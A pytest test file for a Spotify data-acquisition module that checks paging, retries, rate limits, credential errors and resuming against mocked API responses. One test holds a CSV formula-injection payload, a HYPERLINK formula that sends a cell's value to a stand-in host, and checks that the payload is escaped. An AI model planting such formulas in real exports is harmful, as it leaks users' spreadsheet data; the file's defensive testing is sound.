"""tracklens.acquire.spotify offline with `responses`: sources, faults (401/403/404/429/5xx/timeouts),
resuming, references. Also the Spotify fixtures and mocks the other acquire tests share.

Payloads in tests/fixtures/api/ are shaped from the Spotify OpenAPI spec in ../shared/data/api
(TrackObject, PlaylistTrackObject with `item`, paging objects, ErrorObject). No test touches the
network: `responses` refuses unregistered URLs.
"""

from __future__ import annotations

import csv
import json
import logging
import re
from pathlib import Path

import pytest
import requests
import responses
from responses import matchers

from tracklens import config
from tracklens.acquire.rows import read_csv_rows
from tracklens.acquire.spotify import TRACK_COLUMNS, acquire_spotify, parse_spotify_ref, spotify_client
from tracklens.acquire.web import NotFoundError, RateLimitError, RetryPolicy, ServiceError
from tracklens.errors import CredentialsError, TracklensError

FIXTURES = Path(__file__).parent / "fixtures" / "api"
API = "https://api.spotify.com/v1"
TOKEN_URL = "https://accounts.spotify.com/api/token"
SECRET = "s3cr3t-never-printed"
PLAYLIST = "37i9dQZF1DXcBWIGoYBM5M"
ALBUM = "3cAlbumCCCCCCCCCCCCCCC"
ARTIST = "6vWDO969PvNqNYHIOW5v0m"
T1, T2, T3 = "0TrackOne0000000000001", "0TrackTwo0000000000002", "0TrackThree00000000003"
T4, T5, T6 = "0TrackFour000000000004", "0TrackFive000000000005", "0TrackSix0000000000006"


def fixture(name: str) -> dict:
    return json.loads((FIXTURES / name).read_text(encoding="utf-8"))


def read_rows(path: Path) -> list[dict]:
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


@pytest.fixture
def sleeps() -> list[float]:
    return []


@pytest.fixture
def policy(sleeps) -> RetryPolicy:
    """Four attempts, 1-2-4 s back-off, recorded instead of slept."""
    return RetryPolicy(max_attempts=4, base_delay=1.0, max_delay=8.0, max_retry_after=60.0,
                       sleep=sleeps.append)


@pytest.fixture
def api():
    """A `responses` mock with Spotify's token endpoint registered; unknown URLs raise."""
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        mock.post(TOKEN_URL, json=fixture("spotify_token.json"))
        yield mock


@pytest.fixture
def client():
    return spotify_client(credentials=("test-client-id", SECRET))


def add_playlist(mock, *, page2_status: int = 200, headers: dict | None = None):
    mock.get(f"{API}/playlists/{PLAYLIST}/items", json=fixture("spotify_playlist_items_page1.json"),
             match=[matchers.query_param_matcher({"limit": "100"}, strict_match=False)])
    page2 = fixture("spotify_playlist_items_page2.json") if page2_status == 200 else fixture(f"spotify_error_{page2_status}.json")
    mock.get(f"{API}/playlists/{PLAYLIST}/items", json=page2, status=page2_status, headers=headers,
             match=[matchers.query_param_matcher({"offset": "3", "limit": "3"})])


def add_enrichment(mock, *, features_status: int = 200):
    mock.get(f"{API}/artists/", json=fixture("spotify_artists_several.json"))
    body = fixture("spotify_audio_features.json") if features_status == 200 else fixture(f"spotify_error_{features_status}.json")
    mock.get(f"{API}/audio-features/", json=body, status=features_status)


def calls_to(mock, fragment: str) -> list:
    return [c for c in mock.calls if fragment in c.request.url]


# --- Spotify: sources -------------------------------------------------------------------------


def test_playlist_follows_next_and_keeps_unicode(api, client, policy, tmp_path):
    add_playlist(api)
    add_enrichment(api)
    out = tmp_path / "tracks.csv"

    result = acquire_spotify("playlist", f"spotify:playlist:{PLAYLIST}", out, client=client,
                             policy=policy, progress=False)

    rows = read_rows(out)
    assert [r["id"] for r in rows] == [T1, T2, T3]  # page 2 reached via `next`
    assert (result.added, result.skipped, result.total_rows) == (3, 2, 3)  # a local file, a removed track
    assert list(rows[0]) == list(TRACK_COLUMNS)
    by_id = {r["id"]: r for r in rows}
    assert by_id[T2]["artists"] == "Beyoncé; Tyler, The Creator"
    assert by_id[T2]["artist_genres"] == "pop; r&b; hip hop; rap"
    assert by_id[T3]["artists"] == "Sigur Rós" and by_id[T3]["album"] == "Ágætis byrjun"  # `track` key (old shape)
    assert by_id[T1]["isrc"] == "USSM11600001" and by_id[T1]["explicit"] == "True"
    assert by_id[T1]["popularity"] == "78" and by_id[T1]["release_date"] == "2016-04-23"
    assert by_id[T1]["danceability"] == "0.71" and by_id[T3]["danceability"] == "0.2"
    assert by_id[T1]["source"] == f"playlist:spotify:playlist:{PLAYLIST}"
    assert not result.unavailable


def test_album_swaps_simplified_tracks_for_full_ones(api, client, policy, tmp_path):
    api.get(f"{API}/albums/{ALBUM}", json=fixture("spotify_album.json"))
    api.get(f"{API}/albums/{ALBUM}/tracks", json=fixture("spotify_album_tracks_page2.json"))
    api.get(f"{API}/tracks/", json=fixture("spotify_tracks_several.json"))
    add_enrichment(api)
    out = tmp_path / "album.csv"

    acquire_spotify("album", f"https://open.spotify.com/album/{ALBUM}?si=x", out, client=client,
                    policy=policy, progress=False)

    rows = read_rows(out)
    assert [r["id"] for r in rows] == [T4, T5, T6]
    assert {r["album"] for r in rows} == {"初恋"} and rows[0]["artists"] == "宇多田ヒカル"
    assert [r["isrc"] for r in rows] == ["JPTO01800004", "JPTO01800005", "JPTO01800006"]  # from /tracks
    assert rows[2]["preview_url"] == "https://p.scdn.co/mp3-preview/abc123"
    assert rows[0]["artist_genres"] == "j-pop"
    assert len(calls_to(api, "/tracks/?ids=")) == 2  # one batch per album page


def test_album_without_several_tracks_endpoint_keeps_album_fields(api, client, policy, tmp_path, caplog):
    api.get(f"{API}/albums/{ALBUM}", json=fixture("spotify_album.json"))
    api.get(f"{API}/albums/{ALBUM}/tracks", json=fixture("spotify_album_tracks_page2.json"))
    api.get(f"{API}/tracks/", json=fixture("spotify_error_403.json"), status=403)
    add_enrichment(api)
    out = tmp_path / "album.csv"

    with caplog.at_level(logging.WARNING, logger="tracklens.acquire"):
        result = acquire_spotify("album", ALBUM, out, client=client, policy=policy, progress=False)

    rows = read_rows(out)
    assert [r["id"] for r in rows] == [T4, T5, T6]
    assert {r["album"] for r in rows} == {"初恋"} and {r["release_date"] for r in rows} == {"2018-06-27"}
    assert {r["isrc"] for r in rows} == {""}  # simplified tracks carry no ISRC
    assert "tracks" in result.unavailable
    assert len(calls_to(api, "/tracks/?ids=")) == 1  # not asked again after the 403
    assert sum("tracks endpoint answered 403" in r.getMessage() for r in caplog.records) == 1


def test_artist_top_tracks(api, client, policy, tmp_path):
    api.get(f"{API}/artists/{ARTIST}/top-tracks", json=fixture("spotify_artist_top_tracks.json"),
            match=[matchers.query_param_matcher({"country": "US"})])
    add_enrichment(api)

    result = acquire_spotify("artist", ARTIST, tmp_path / "t.csv", client=client, policy=policy,
                             progress=False)

    assert result.added == 2
    assert [r["name"] for r in read_rows(tmp_path / "t.csv")] == ["Formation", "Sorry (feat. Tyler)"]


def test_search_paginates_and_stops_at_limit(api, client, policy, tmp_path):
    api.get(f"{API}/search", json=fixture("spotify_search_page1.json"),
            match=[matchers.query_param_matcher({"q": "lemonade", "offset": "0"}, strict_match=False)])
    api.get(f"{API}/search", json=fixture("spotify_search_page2.json"),
            match=[matchers.query_param_matcher({"offset": "2"}, strict_match=False)])
    add_enrichment(api)

    limited = acquire_spotify("search", "lemonade", tmp_path / "a.csv", client=client, limit=2,
                              policy=policy, progress=False)
    assert limited.added == 2 and len(calls_to(api, "/search")) == 1  # page 2 never fetched

    full = acquire_spotify("search", "lemonade", tmp_path / "b.csv", client=client, policy=policy,
                           progress=False)
    assert [r["id"] for r in read_rows(tmp_path / "b.csv")] == [T1, T2, T3]
    assert full.added == 3


def test_artist_genres_are_looked_up_50_per_call(api, client, policy, tmp_path):
    base = fixture("spotify_artist_top_tracks.json")["tracks"][0]
    artist_ids = [f"Artist{i:017d}" for i in range(120)]  # 22 characters, base62
    tracks = []
    for i in range(60):
        pair = artist_ids[2 * i:2 * i + 2]
        tracks.append({**base, "id": f"Track{i:017d}", "artists": [{"id": a, "name": f"Ärtist {a[-3:]}", "type": "artist"} for a in pair]})
    api.get(f"{API}/artists/{ARTIST}/top-tracks", json={"tracks": tracks})
    asked = []

    def artists_callback(request):
        ids = request.params["ids"].split(",")
        asked.append(len(ids))
        return 200, {}, json.dumps({"artists": [{"id": a, "name": a, "genres": [f"g{a[-3:]}"]} for a in ids]})

    api.add_callback(responses.GET, f"{API}/artists/", callback=artists_callback)
    api.get(f"{API}/audio-features/", json={"audio_features": []})

    acquire_spotify("artist", ARTIST, tmp_path / "t.csv", client=client, policy=policy, progress=False)

    assert asked == [50, 50, 20]
    rows = read_rows(tmp_path / "t.csv")
    assert rows[0]["artist_genres"] == "g000; g001" and rows[-1]["artist_genres"] == "g118; g119"


# --- Spotify: faults --------------------------------------------------------------------------


def test_audio_features_403_is_said_once_and_skipped(api, client, policy, tmp_path, caplog):
    add_playlist(api)
    add_enrichment(api, features_status=403)

    with caplog.at_level(logging.WARNING, logger="tracklens.acquire"):
        result = acquire_spotify("playlist", PLAYLIST, tmp_path / "t.csv", client=client,
                                 policy=policy, progress=False)

    warnings = [r for r in caplog.records if "audio-features" in r.getMessage()]
    assert len(warnings) == 1 and "403" in warnings[0].getMessage()
    assert len(calls_to(api, "/audio-features/")) == 1  # two pages, one attempt
    assert "audio-features" in result.unavailable
    rows = read_rows(tmp_path / "t.csv")
    assert len(rows) == 3 and {r["danceability"] for r in rows} == {""}
    assert rows[0]["artist_genres"] == "pop; r&b"  # everything else still filled


def test_401_says_how_to_fix_credentials(api, client, policy, tmp_path):
    api.get(f"{API}/playlists/{PLAYLIST}/items", json=fixture("spotify_error_401.json"), status=401)

    with pytest.raises(CredentialsError) as info:
        acquire_spotify("playlist", PLAYLIST, tmp_path / "t.csv", client=client, policy=policy,
                        progress=False)

    message = str(info.value)
    assert "401" in message and "SPOTIPY_CLIENT_ID" in message and "\n" not in message
    assert SECRET not in message
    assert not (tmp_path / "t.csv").exists()


def test_rejected_client_secret_is_a_credentials_error(client, policy, tmp_path):
    with responses.RequestsMock() as mock:
        mock.post(TOKEN_URL, status=400, json={"error": "invalid_client", "error_description": "Invalid client secret"})
        with pytest.raises(CredentialsError, match="invalid_client") as info:
            acquire_spotify("search", "x", tmp_path / "t.csv", client=client, policy=policy, progress=False)
    assert SECRET not in str(info.value)


def test_token_endpoint_outage_is_retried_not_blamed_on_credentials(client, policy, sleeps, tmp_path):
    with responses.RequestsMock() as mock:
        mock.post(TOKEN_URL, status=503, body="<html>Service Unavailable</html>")
        mock.post(TOKEN_URL, json=fixture("spotify_token.json"))
        mock.get(f"{API}/artists/{ARTIST}/top-tracks", json=fixture("spotify_artist_top_tracks.json"))
        add_enrichment(mock)
        result = acquire_spotify("artist", ARTIST, tmp_path / "t.csv", client=client, policy=policy,
                                 progress=False)
    assert result.added == 2 and sleeps == [1.0]


def test_404_names_the_item(api, client, policy, tmp_path):
    api.get(f"{API}/playlists/{PLAYLIST}/items", json=fixture("spotify_error_404.json"), status=404)

    with pytest.raises(NotFoundError, match=f"no playlist {PLAYLIST}"):
        acquire_spotify("playlist", PLAYLIST, tmp_path / "t.csv", client=client, policy=policy,
                        progress=False)


def test_429_waits_retry_after_then_succeeds(api, client, policy, sleeps, tmp_path):
    api.get(f"{API}/artists/{ARTIST}/top-tracks", json=fixture("spotify_error_429.json"), status=429,
            headers={"Retry-After": "7"})
    api.get(f"{API}/artists/{ARTIST}/top-tracks", json=fixture("spotify_artist_top_tracks.json"))
    add_enrichment(api)

    result = acquire_spotify("artist", ARTIST, tmp_path / "t.csv", client=client, policy=policy,
                             progress=False)

    assert sleeps == [7.0]  # the server's hint, not the back-off
    assert result.added == 2


def test_429_storm_gives_up_clearly_and_keeps_rows(api, client, policy, sleeps, tmp_path):
    add_playlist(api, page2_status=429, headers={"Retry-After": "2"})
    add_enrichment(api)
    out = tmp_path / "t.csv"

    with pytest.raises(RateLimitError, match="still rate-limited") as info:
        acquire_spotify("playlist", PLAYLIST, out, client=client, policy=policy, progress=False)

    assert "429" in str(info.value) and "re-running resumes" in str(info.value)
    assert sleeps == [2.0, 2.0, 2.0]  # four attempts in all
    assert [r["id"] for r in read_rows(out)] == [T1, T2]  # page 1 was written before the storm
    assert not list(tmp_path.glob(".*.part"))

    api.remove(responses.GET, f"{API}/playlists/{PLAYLIST}/items")  # the storm is over
    add_playlist(api)
    resumed = acquire_spotify("playlist", PLAYLIST, out, client=client, policy=policy, progress=False)
    assert [r["id"] for r in read_rows(out)] == [T1, T2, T3]
    assert (resumed.added, resumed.already_present) == (1, 2)


def test_retry_after_beyond_the_limit_gives_up_at_once(api, client, policy, sleeps, tmp_path):
    api.get(f"{API}/artists/{ARTIST}/top-tracks", json=fixture("spotify_error_429.json"), status=429,
            headers={"Retry-After": "3600"})

    with pytest.raises(RateLimitError, match="3600 s"):
        acquire_spotify("artist", ARTIST, tmp_path / "t.csv", client=client, policy=policy,
                        progress=False)
    assert sleeps == []


def test_5xx_backs_off_exponentially_then_succeeds(api, client, policy, sleeps, tmp_path):
    for status in (503, 502):
        api.get(f"{API}/artists/{ARTIST}/top-tracks", json=fixture("spotify_error_503.json"), status=status)
    api.get(f"{API}/artists/{ARTIST}/top-tracks", json=fixture("spotify_artist_top_tracks.json"))
    add_enrichment(api)

    result = acquire_spotify("artist", ARTIST, tmp_path / "t.csv", client=client, policy=policy,
                             progress=False)

    assert sleeps == [1.0, 2.0]
    assert result.added == 2
    assert len(calls_to(api, "/top-tracks")) == 3  # spotipy's own retries are off: we count every call


def test_5xx_storm_is_reported_as_a_server_error_not_a_rate_limit(api, client, policy, sleeps, tmp_path):
    # spotipy's default urllib3 retries would answer "429 Max Retries" after 4 silent calls
    api.get(f"{API}/artists/{ARTIST}/top-tracks", json=fixture("spotify_error_503.json"), status=503)

    with pytest.raises(ServiceError, match="HTTP 503"):
        acquire_spotify("artist", ARTIST, tmp_path / "t.csv", client=client, policy=policy,
                        progress=False)
    assert len(calls_to(api, "/top-tracks")) == 4 and sleeps == [1.0, 2.0, 4.0]


def test_timeouts_are_retried_and_then_reported(api, client, policy, sleeps, tmp_path):
    api.get(f"{API}/artists/{ARTIST}/top-tracks", body=requests.exceptions.ReadTimeout("read timed out"))

    with pytest.raises(ServiceError, match="timed out.*4 attempts"):
        acquire_spotify("artist", ARTIST, tmp_path / "t.csv", client=client, policy=policy,
                        progress=False)
    assert sleeps == [1.0, 2.0, 4.0]


def test_connection_error_then_success(api, client, policy, sleeps, tmp_path):
    api.get(f"{API}/artists/{ARTIST}/top-tracks", body=requests.exceptions.ConnectionError("reset"))
    api.get(f"{API}/artists/{ARTIST}/top-tracks", json=fixture("spotify_artist_top_tracks.json"))
    add_enrichment(api)

    assert acquire_spotify("artist", ARTIST, tmp_path / "t.csv", client=client, policy=policy,
                           progress=False).added == 2
    assert sleeps == [1.0]


def test_backoff_is_bounded():
    policy = RetryPolicy(base_delay=1.0, max_delay=5.0)
    assert [policy.backoff(n) for n in range(1, 6)] == [1.0, 2.0, 4.0, 5.0, 5.0]


def test_missing_credentials_say_how_to_set_them(monkeypatch):
    monkeypatch.delenv("SPOTIPY_CLIENT_ID", raising=False)
    monkeypatch.delenv("SPOTIPY_CLIENT_SECRET", raising=False)
    monkeypatch.setattr(config, "load_dotenv_once", lambda: None)  # a developer's .env must not leak in

    with pytest.raises(CredentialsError) as info:
        spotify_client()
    message = str(info.value)
    assert "SPOTIPY_CLIENT_ID" in message and "SPOTIPY_CLIENT_SECRET" in message and ".env" in message


def test_resume_never_duplicates(api, client, policy, tmp_path):
    add_playlist(api)
    add_enrichment(api)
    out = tmp_path / "t.csv"
    acquire_spotify("playlist", PLAYLIST, out, client=client, policy=policy, progress=False)
    first = out.read_bytes()
    artist_calls = len(calls_to(api, "/artists/"))

    again = acquire_spotify("playlist", PLAYLIST, out, client=client, policy=policy, progress=False)

    assert (again.added, again.already_present, again.total_rows) == (0, 3, 3)
    assert out.read_bytes() == first
    assert len(calls_to(api, "/artists/")) == artist_calls  # known tracks need no look-ups


def test_formula_track_names_are_escaped_and_resume_reads_them_back(api, client, policy, tmp_path):
    from tracklens import fileio

    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Formation")'
    top = fixture("spotify_artist_top_tracks.json")
    top["tracks"][0]["name"] = formula
    api.get(f"{API}/artists/{ARTIST}/top-tracks", json=top)
    add_playlist(api)  # the same two tracks and one new one: resuming rewrites the file
    add_enrichment(api)
    out = tmp_path / "t.csv"
    acquire_spotify("artist", ARTIST, out, client=client, policy=policy, progress=False)
    again = acquire_spotify("playlist", PLAYLIST, out, client=client, policy=policy, progress=False)

    assert (again.added, again.already_present) == (1, 2)
    assert read_rows(out)[0]["name"] == "'" + formula  # raw: a spreadsheet shows it as text
    rows, _ = read_csv_rows(out, required=("id",), purpose="a tracks CSV")
    assert rows[0]["name"] == formula  # read back unchanged, not escaped twice by the resume
    assert fileio.read_csv(out)["name"].iloc[0] == formula


def test_refuses_to_resume_into_a_foreign_csv(client, policy, tmp_path):
    out = tmp_path / "other.csv"
    out.write_text("a,b\n1,2\n", encoding="utf-8")
    with pytest.raises(TracklensError, match=re.escape(str(out)) + ".*id"):
        acquire_spotify("artist", ARTIST, out, client=client, policy=policy, progress=False)


@pytest.mark.parametrize("kind, ref, expected", [
    ("album", ALBUM, ALBUM),
    ("album", f"spotify:album:{ALBUM}", ALBUM),
    ("playlist", f"https://open.spotify.com/intl-de/playlist/{PLAYLIST}?si=abc", PLAYLIST),
])
def test_parse_spotify_ref(kind, ref, expected):
    assert parse_spotify_ref(kind, ref) == expected


@pytest.mark.parametrize("ref, match", [("not an id", "not a Spotify album"), (f"spotify:track:{T1}", "is a Spotify track"),
                                        (None, "not a Spotify album.*got None"),  # os.environ.get("UNSET") in a notebook
                                        (12345, "not a Spotify album.*got int")])
def test_parse_spotify_ref_rejects(ref, match):
    with pytest.raises(TracklensError, match=match):
        parse_spotify_ref("album", ref)
